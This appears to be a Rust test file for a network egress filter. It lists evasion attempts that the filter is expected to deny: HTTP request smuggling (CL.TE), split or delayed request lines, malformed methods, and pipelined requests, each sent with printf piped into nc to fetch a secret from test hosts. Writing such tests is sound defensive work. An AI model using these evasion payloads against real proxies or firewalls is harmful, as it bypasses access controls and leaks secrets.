//! A rule opens an address whatever is said there, another denies a name or a path: requests that
//! try to pass for something that nobody needs to read.

use std::net::IpAddr;

use test_support::hosts::WILD;

use crate::pairing::Family;
use crate::row::{ROW, Row, Trace};
use crate::scene::Scene;

/// Why none of them gets through.
const READ: &str = "where a name or a deny rule could decide, the client's first bytes are identified whenever they come, and what \
                    some server could take for a request is judged to the connection's end, or refused where servers could differ";

const fn pretence(
    name: &'static str,
    attack: &'static str,
    script: fn(&Scene<'_>) -> String,
) -> Row {
    Row {
        name,
        attack,
        defence: READ,
        script,
        recorded: Some(Trace::Denied),
        ..ROW
    }
}

pub(crate) const ROWS: &[Row] = &[
    pretence(
        "pretence_by_silence",
        "six seconds of silence, then a denied request",
        |scene| {
            both(
                scene,
                6,
                "GET /secret/SECRET HTTP/1.1\\r\\nHost: denied.test",
            )
        },
    ),
    pretence(
        "pretence_by_a_long_method",
        "a method of 33 letters",
        |scene| {
            both(
                scene,
                0,
                &format!(
                    "{} /secret/SECRET HTTP/1.1\\r\\nHost: denied.test",
                    "A".repeat(33)
                ),
            )
        },
    ),
    pretence(
        "pretence_by_a_tab",
        "a tab between method and target",
        |scene| {
            both(
                scene,
                0,
                "GET\\t/secret/SECRET HTTP/1.1\\r\\nHost: denied.test",
            )
        },
    ),
    pretence(
        "pretence_by_a_leading_blank",
        "a blank before the method",
        |scene| {
            both(
                scene,
                0,
                " GET /secret/SECRET HTTP/1.1\\r\\nHost: denied.test",
            )
        },
    ),
    pretence(
        "pretence_by_no_version",
        "a request without a version (HTTP/0.9), to a denied path",
        |scene| say(scene, 0, 8080, "GET /secret/SECRET"),
    ),
    pretence(
        "pretence_by_a_pause",
        "two letters of the method, a second of silence, then the rest of a denied request",
        |scene| {
            let to = |port: u16| {
                let (target, secret) = (open(scene), &scene.secret);
                format!(
                    "nslookup a.wild.test >/dev/null; {{ printf GE; sleep 1; printf 'T /secret/{secret} HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'; sleep 1; }} | nc -w 4 {target} {port}"
                )
            };
            format!("{}; {}", to(8080), to(5432))
        },
    ),
    pretence(
        "pretence_behind_an_allowed_request",
        "a denied request right behind an allowed one, on the same connection",
        |scene| {
            say(
                scene,
                0,
                80,
                "GET / HTTP/1.1\\r\\nHost: a.wild.test\\r\\n\\r\\nGET /SECRET HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close",
            )
        },
    ),
    pretence(
        "pretence_in_a_body",
        "a denied request in a body that ends elsewhere for some servers (CL.TE)",
        |scene| {
            both(
                scene,
                0,
                "POST / HTTP/1.1\\r\\nHost: a.wild.test\\r\\nContent-Length: 70\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /secret/SECRET HTTP/1.1\\r\\nHost: denied.test",
            )
        },
    ),
    pretence(
        "pretence_by_pieces",
        "a request line one byte at a time, with pauses",
        |scene| {
            let target = open(scene);
            let pieces: String = format!("GET /secret/{} HTTP/1.1", scene.secret)
                .chars()
                .map(|letter| format!("printf '{letter}'; "))
                .collect();
            format!(
                "{{ sleep 1; {pieces} printf '\\r\\n\\r\\n'; sleep 1; }} | nc -w 4 {target} 8080"
            )
        },
    ),
];

/// To a port that a rule opens for an address, and to one that a rule opens for a name.
fn both(scene: &Scene<'_>, pause: u32, request: &str) -> String {
    format!(
        "{}; {}",
        say(scene, pause, 8080, request),
        say(scene, pause, 5432, request)
    )
}

fn say(scene: &Scene<'_>, pause: u32, port: u16, request: &str) -> String {
    let (target, request) = (open(scene), request.replace("SECRET", &scene.secret));
    // The name has to be known for the address.
    format!(
        "nslookup a.wild.test >/dev/null; {{ sleep {pause}; printf '{request}\\r\\n\\r\\n'; sleep 1; }} | nc -w {} {target} {port}",
        pause + 3
    )
}

fn open(scene: &Scene<'_>) -> IpAddr {
    match scene.circumstances.family {
        Family::V4 => WILD.v4.into(),
        Family::V6 => WILD.v6.into(),
    }
}
